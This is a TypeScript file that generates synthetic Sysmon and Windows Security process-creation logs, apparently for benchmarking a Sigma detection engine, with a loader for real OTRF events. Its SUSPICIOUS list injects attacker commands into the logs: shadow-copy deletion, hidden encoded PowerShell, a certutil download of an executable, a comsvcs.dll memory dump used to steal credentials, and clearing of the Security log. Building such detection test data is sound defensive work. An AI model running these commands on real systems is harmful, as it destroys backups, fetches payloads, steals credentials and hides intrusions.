/**
 * Lines to judge: two generated lanes, the same on every machine and shaped like those RSigma
 * publishes figures for, and real events when they are here.
 */
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { realData } from '../../test/real-data.ts';
import { zippedTexts } from './zip.ts';

export const LANE_LINES = 20_000;

/** Image, command line and parent that belong together, as they do on a quiet machine. */
const PROCESSES: readonly (readonly [image: string, command: string, parent: string])[] = [
  [
    'C:\\Windows\\System32\\svchost.exe',
    'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s BITS',
    'C:\\Windows\\System32\\services.exe',
  ],
  [
    'C:\\Windows\\System32\\taskhostw.exe',
    'taskhostw.exe SYSTEM',
    'C:\\Windows\\System32\\svchost.exe',
  ],
  [
    'C:\\Windows\\System32\\dllhost.exe',
    'C:\\Windows\\System32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}',
    'C:\\Windows\\System32\\svchost.exe',
  ],
  [
    'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
    'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe -secured -Embedding',
    'C:\\Windows\\System32\\svchost.exe',
  ],
  [
    'C:\\Windows\\System32\\SearchIndexer.exe',
    'C:\\Windows\\System32\\SearchIndexer.exe /Embedding',
    'C:\\Windows\\System32\\services.exe',
  ],
  [
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=utility --lang=hu',
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
  ],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\nurse\\l.docx"',
    'C:\\Windows\\explorer.exe',
  ],
  [
    'C:\\Program Files\\Radiology Viewer\\viewer.exe',
    '"C:\\Program Files\\Radiology Viewer\\viewer.exe" --study 20260302-118',
    'C:\\Windows\\explorer.exe',
  ],
];
const SUSPICIOUS = [
  'vssadmin.exe delete shadows /all /quiet',
  'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  'certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe',
  'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\Temp\\l.dmp full',
  'wevtutil.exe cl Security',
];
const USERS = ['NT AUTHORITY\\SYSTEM', 'CLINIC\\kovacs', 'CLINIC\\martin', 'CLINIC\\svc-pacs'];
const HOSTS = ['ward-0107', 'ward-0212', 'pacs-01', 'dc-01', 'lab-0033'];

/** A linear congruential generator: lanes must not differ between runs. */
class Dice {
  #state: number;
  constructor(seed: number) {
    this.#state = seed;
  }
  below(limit: number): number {
    this.#state = (Math.imul(this.#state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((this.#state / 2 ** 32) * limit);
  }
  of<T>(choices: readonly [T, ...T[]] | readonly T[]): T {
    const chosen = choices[this.below(choices.length)];
    if (chosen === undefined) throw new RangeError('nothing to choose from');
    return chosen;
  }
  hex(digits: number): string {
    let text = '';
    while (text.length < digits) text += this.below(16).toString(16);
    return text;
  }
  /** One in so many hundred is a suspicious command of a shell. */
  process(suspiciousPercent: number): readonly [image: string, command: string, parent: string] {
    if (this.below(100) >= suspiciousPercent) return this.of(PROCESSES);
    return ['C:\\Windows\\System32\\cmd.exe', this.of(SUSPICIOUS), 'C:\\Windows\\explorer.exe'];
  }
}

/** Sysmon process creations of about 700 bytes; two in a hundred are suspicious. */
export function structuredLane(): string[] {
  const dice = new Dice(7);
  return Array.from({ length: LANE_LINES }, () => {
    const [image, command, parent] = dice.process(2);
    const time = `2026-03-02 1${dice.below(10)}:${10 + dice.below(50)}:${10 + dice.below(50)}`;
    return JSON.stringify({
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      EventID: 1,
      Computer: dice.of(HOSTS),
      UtcTime: `${time}.${100 + dice.below(900)}`,
      ProcessGuid: `{${dice.hex(8)}-${dice.hex(4)}-${dice.hex(4)}-${dice.hex(12)}}`,
      ProcessId: 1_000 + dice.below(60_000),
      Image: image,
      OriginalFileName: image.slice(image.lastIndexOf('\\') + 1),
      CommandLine: command,
      CurrentDirectory: 'C:\\Windows\\system32\\',
      User: dice.of(USERS),
      LogonId: `0x${dice.hex(5)}`,
      IntegrityLevel: dice.of(['Medium', 'High', 'System']),
      Hashes: `SHA256=${dice.hex(64).toUpperCase()}`,
      ParentProcessId: 1_000 + dice.below(60_000),
      ParentImage: parent,
      ParentCommandLine: `${parent} -k ${dice.hex(6)}`,
    });
  });
}

/** Windows messages as text in one field, about 800 bytes; one in ten is suspicious. */
export function rawLane(): string[] {
  const dice = new Dice(11);
  return Array.from({ length: LANE_LINES }, () => {
    const host = dice.of(HOSTS);
    const [image, command, parent] = dice.process(10);
    const time = `1${dice.below(10)}:${10 + dice.below(50)}:${10 + dice.below(50)}`;
    const message =
      `<131>Mar  2 ${time} ${host} MSWinEventLog\t1\tSecurity\t${dice.below(1e9)}\tMon Mar 02 ` +
      `${time} 2026\t4688\tMicrosoft-Windows-Security-Auditing\tN/A\tN/A\tSuccess Audit\t${host}` +
      '\tProcess Creation\t\tA new process has been created.    Creator Subject:   Security ID:  ' +
      `${dice.of(USERS)}   Account Name:  ${host}$   Account Domain:  CLINIC   Logon ID:  0x3E7    ` +
      'Target Subject:   Security ID:  S-1-0-0   Account Name:  -   Account Domain:  -   Logon ID:' +
      `  0x0    Process Information:   New Process ID:  0x${dice.hex(4)}   New Process Name: ` +
      `${image}   Token Elevation Type: %%1936   Mandatory Label:  S-1-16-8192   ` +
      `Creator Process ID: 0x${dice.hex(4)}   Creator Process Name: ${parent}   ` +
      `Process Command Line: ${command}\t${dice.below(1e7)}`;
    return JSON.stringify({ message });
  });
}

/** Real events: every n-th line of the OTRF data, so that all recordings are in it; null without. */
export async function otrfLane(every: number): Promise<string[] | null> {
  const folder = realData('otrf');
  if (folder === null) return null;
  const lines: string[] = [];
  const zips = readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .filter((path) => path.endsWith('.zip'))
    .toSorted();
  let number = 0;
  for (const zip of zips) {
    for (const content of await zippedTexts(join(folder, zip))) {
      for (const line of content.split('\n')) {
        if (!line.startsWith('{')) continue;
        // A copy, as a door would have it, that does not keep the whole recording.
        if (number % every === 0) lines.push(Buffer.from(line).toString());
        number += 1;
      }
    }
  }
  return lines;
}
